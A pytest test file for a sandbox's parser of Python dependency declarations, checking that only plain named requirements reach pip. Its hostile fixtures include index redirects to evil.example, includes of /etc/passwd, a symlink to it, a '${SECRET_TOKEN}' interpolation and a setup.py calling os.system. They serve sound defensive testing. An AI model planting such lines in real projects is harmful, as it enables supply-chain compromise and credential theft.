"""What a repository declares, and the policy that decides what reaches pip (no engine needed)."""

from __future__ import annotations

import os

import pytest

from healer.engine.workspace import Workspace
from sandbox.requirements import Kind, check_requirement, declared_dependencies
from tests.fixtures_docker import write_tree


def declared(tmp_path, files: dict[str, str]):
    return declared_dependencies(Workspace(write_tree(tmp_path / "repo", files)))


def by_kind(found, kind: Kind) -> list[str]:
    return [d.requirement for d in found.requirements if d.kind == kind]


HOSTILE_LINES = [
    "--index-url https://evil.example/simple",
    "--extra-index-url https://evil.example/simple",
    "-i https://evil.example/simple",
    "--trusted-host evil.example",
    "-f https://evil.example/links",
    "--find-links=https://evil.example/links",
    "--no-index",
    "--pre",
    "pkg @ https://evil.example/pkg-1.0-py3-none-any.whl",
    "pkg@https://evil.example/pkg.tar.gz",
    "git+https://github.com/evil/pkg",
    "-e git+https://github.com/evil/pkg#egg=pkg",
    "--editable=git+https://github.com/evil/pkg#egg=pkg",
    "--requirement=/etc/passwd",
    "-r/etc/passwd",
    "-r ../outside.txt",
    "-r https://evil.example/req.txt",
    "-c /etc/constraints.txt",
    "./vendored/pkg",
    "/abs/path/pkg",
    "~/pkg",
    "file:///tmp/pkg",
    "evil-1.0-py3-none-any.whl",
    "pkg==${SECRET_TOKEN}",
    "-e ./subproject",
]


@pytest.mark.parametrize("line", HOSTILE_LINES)
def test_it_refuses_every_option_url_vcs_and_path_line_with_its_location(tmp_path, line):
    found = declared(tmp_path, {"requirements-dev.txt": f"pytest>=7\n{line}\n"})
    assert by_kind(found, Kind.TEST) == ["pytest>=7"]
    assert len(found.refusals) == 1, found.refusals
    message = found.refusals[0].message()
    assert message.startswith("requirements-dev.txt:2: refused `")
    assert "evil" not in "".join(d.requirement for d in found.requirements)


def test_a_symlinked_include_is_refused(tmp_path):
    repo = write_tree(tmp_path / "repo", {"requirements.txt": "-r link.txt\nattrs\n"})
    os.symlink("/etc/passwd", repo / "link.txt")
    found = declared_dependencies(Workspace(repo))
    assert [d.requirement for d in found.requirements] == ["attrs"]
    assert "symlink" in found.refusals[0].message()


def test_it_follows_includes_inside_the_repository(tmp_path):
    found = declared(
        tmp_path,
        {
            "requirements.txt": "-r requirements/base.txt\n-c constraints.txt\n",
            "requirements/base.txt": "attrs>=22  # comment\n-r common.txt\n",
            "requirements/common.txt": "iniconfig \\\n  ==2.0.0\n",
            "constraints.txt": "attrs<24\n",
        },
    )
    assert by_kind(found, Kind.RUNTIME) == ["attrs>=22", "iniconfig==2.0.0"]
    assert [c.requirement for c in found.constraints] == ["attrs<24"]
    assert found.refusals == []


def test_an_include_cycle_terminates(tmp_path):
    found = declared(tmp_path, {"requirements.txt": "-r requirements.txt\nattrs\n"})
    assert by_kind(found, Kind.RUNTIME) == ["attrs"]


def test_url_and_vcs_runtime_requirements_are_fatal_test_ones_are_not(tmp_path):
    found = declared(
        tmp_path,
        {
            "requirements.txt": "lib @ https://x.example/lib.whl\n",
            "requirements-test.txt": "git+https://x.example/tool.git\n--index-url https://x.example\n",
        },
    )
    assert [r.source for r in found.fatal] == ["requirements.txt:1"]


def test_hashes_are_dropped_and_said_so(tmp_path):
    found = declared(
        tmp_path, {"requirements.txt": "attrs==23.2.0 \\\n    --hash=sha256:abc \\\n    --hash=sha256:def\n"}
    )
    assert by_kind(found, Kind.RUNTIME) == ["attrs==23.2.0"]
    assert found.refusals == [] and any("hashes are not checked" in n for n in found.notes)


def test_it_collects_runtime_and_test_dependencies_from_pyproject(tmp_path):
    found = declared(
        tmp_path,
        {
            "pyproject.toml": """
[project]
name = "My_Project"
dependencies = ["attrs>=22", "tomli; python_version < '3.11'"]

[project.optional-dependencies]
testing = ["pytest>=8", "my-project[extra-tools]"]
extra-tools = ["hypothesis"]
docs = ["sphinx"]

[dependency-groups]
test = ["pytest-subtests", {include-group = "typing"}]
typing = ["mypy", {include-group = "test"}]
""",
        },
    )
    assert by_kind(found, Kind.RUNTIME) == ["attrs>=22", 'tomli; python_version < "3.11"']
    assert sorted(by_kind(found, Kind.TEST)) == ["hypothesis", "mypy", "pytest-subtests", "pytest>=8"]
    assert "sphinx" not in by_kind(found, Kind.TEST)


def test_the_project_itself_is_never_installed_but_its_extras_are(tmp_path):
    found = declared(
        tmp_path,
        {
            "pyproject.toml": '[project]\nname = "demo"\n[project.optional-dependencies]\nfast = ["ujson"]\n',
            "requirements-dev.txt": "-e .[fast]\ndemo\npytest-cov\n",
        },
    )
    assert by_kind(found, Kind.TEST) == ["pytest-cov", "ujson"]
    assert found.refusals == []


def test_it_reads_requirement_files_by_role_and_skips_docs(tmp_path):
    found = declared(
        tmp_path,
        {
            "requirements.txt": "attrs\n",
            "requirements.in": "attrs-unpinned\n",  # pip-tools input next to its output
            "requirements-test.txt": "pytest-mock\n",
            "test-requirements.txt": "pytest-xdist\n",
            "requirements/dev.txt": "hypothesis\n",
            "requirements-docs.txt": "sphinx\n",
            "requirements/docs.txt": "furo\n",
            "sub/requirements.txt": "deep-not-read\n",
        },
    )
    assert by_kind(found, Kind.RUNTIME) == ["attrs"]
    assert sorted(by_kind(found, Kind.TEST)) == ["hypothesis", "pytest-mock", "pytest-xdist"]


def test_it_reads_tox_setup_cfg_and_literal_setup_py(tmp_path):
    found = declared(
        tmp_path,
        {
            "tox.ini": (
                "[base]\ndeps = pytest-timeout\n[testenv]\nextras = testing\n"
                "deps =\n    {[base]deps}\n    -r{toxinidir}/requirements-ci.txt\n    py38: old-thing\n"
                "    {env:EVIL}\n"
            ),
            "requirements-ci.txt": "coverage\n",
            "setup.cfg": (
                "[metadata]\nname = demo\n[options]\ninstall_requires =\n    six\n"
                "[options.extras_require]\ntesting =\n    pytest-randomly\n"
            ),
            "setup.py": (
                "from setuptools import setup\nDEPS = ['idna>=3']\n"
                "setup(name='demo', install_requires=DEPS, tests_require=['mock'], "
                "extras_require={'dev': ['black']}, version=compute())\n"
            ),
        },
    )
    assert sorted(by_kind(found, Kind.RUNTIME)) == ["idna>=3", "six"]
    assert sorted(by_kind(found, Kind.TEST)) == [
        "black",
        "coverage",
        "mock",
        "pytest-randomly",
        "pytest-timeout",
    ]
    assert [r.text for r in found.refusals] == ["{env:EVIL}"]
    assert any("old-thing" in n for n in found.notes)


def test_a_setup_py_that_computes_its_requirements_is_not_executed(tmp_path):
    found = declared(
        tmp_path,
        {
            "setup.py": "import os\nos.system('touch /tmp/pwned')\nsetup(install_requires=open('r').read().split())\n"
        },
    )
    assert found.requirements == []
    assert any("install_requires is computed" in n for n in found.notes)


@pytest.mark.parametrize(
    ("text", "ok"),
    [
        ("pytest", True),
        ("pytest>=7,<9", True),
        ("Foo.Bar[baz,qux]~=1.2; python_version >= '3.8'", True),
        ("requests[security] == 2.*", True),
        ("pkg @ https://x/y.whl", False),
        ("hg+https://x/y", False),
        ("svn+ssh://x/y", False),
        ("https://x/y.tar.gz", False),
        ("../up", False),
        ("C:\\evil", False),
        ("pkg.tar.gz", False),
        ("pkg==${X}", False),
        ("not a requirement at all!", False),
    ],
)
def test_only_plain_named_requirements_pass(text, ok):
    req, reason, _ = check_requirement(text)
    assert (req is not None) is ok, reason


def test_malformed_files_are_notes_not_crashes(tmp_path):
    found = declared(
        tmp_path,
        {
            "pyproject.toml": "[project\nname = ",
            "setup.cfg": "not an ini [",
            "setup.py": "def (:\n",
            "tox.ini": "[testenv]\ndeps = " + "(" * 5000 + "\n",
        },
    )
    assert found.requirements == []
    assert {n.split(":")[0] for n in found.notes} >= {"pyproject.toml", "setup.cfg", "setup.py"}


def test_no_plan_without_declared_dependencies(tmp_path):
    from sandbox.deps_pip import PipIndex, PipInstaller

    installer = PipInstaller(PipIndex(), inputs_dir="/x")
    root = write_tree(tmp_path / "r", {"pyproject.toml": "[tool.ruff]\n", "a.py": ""})
    assert installer.plan(Workspace(root)) is None


def test_the_cache_key_follows_the_declarations_not_their_order_or_comments(tmp_path):
    from sandbox.deps_pip import PipIndex, PipInstaller

    installer = PipInstaller(PipIndex(), inputs_dir="/x")

    def key(name, files):
        return installer.cache_key(installer.plan(Workspace(write_tree(tmp_path / name, files))))

    first = key("a", {"requirements.txt": "six\nattrs  # why\n"})
    assert key("b", {"requirements.txt": "attrs\n# note\nsix\n"}) == first
    assert key("c", {"requirements.txt": "six==1.0\nattrs\n"}) != first
    assert key("d", {"requirements.txt": "six\nattrs\n", "requirements-test.txt": "pytest\n"}) != first
    assert key("e", {"requirements.txt": "six\nattrs\n-c c.txt\n", "c.txt": "six<2\n"}) != first


def test_it_reads_poetry_runtime_and_test_group_tables(tmp_path):
    found = declared(
        tmp_path,
        {
            "pyproject.toml": """
[tool.poetry.dependencies]
python = ">=3.8,<4.0"
mando = "^0.7"
colorama = [
    {version = ">=0.4.1", markers = "python_version > '3.4'"},
]
fast = {version = "^2", optional = true}

[tool.poetry.group.dev.dependencies]
pytest = [{version = ">=2.7", python = "<3.0"}, {version = ">5.0", python = ">=3.0"}]
pytest-mock = "*"

[tool.poetry.group.docs.dependencies]
sphinx = "^7"

[tool.poetry.dev-dependencies]
freezegun = "~1.2"
""",
        },
    )
    assert by_kind(found, Kind.RUNTIME) == ["mando<0.8,>=0.7", 'colorama>=0.4.1; python_version > "3.4"']
    assert sorted(by_kind(found, Kind.TEST)) == [
        "freezegun<1.3,>=1.2",
        "pytest-mock",
        'pytest>5.0; python_version >= "3.0"',
        'pytest>=2.7; python_version < "3.0"',
    ]
    assert found.refusals == []


def test_it_refuses_a_poetry_path_or_vcs_dependency_with_its_table(tmp_path):
    found = declared(
        tmp_path,
        {"pyproject.toml": '[tool.poetry.group.test.dependencies]\nlocal = {path = "../x"}\nok = "^1.0"\n'},
    )
    assert by_kind(found, Kind.TEST) == ["ok<2,>=1.0"]
    assert [r.source for r in found.refusals] == ["pyproject.toml [tool.poetry.group.test.dependencies]"]
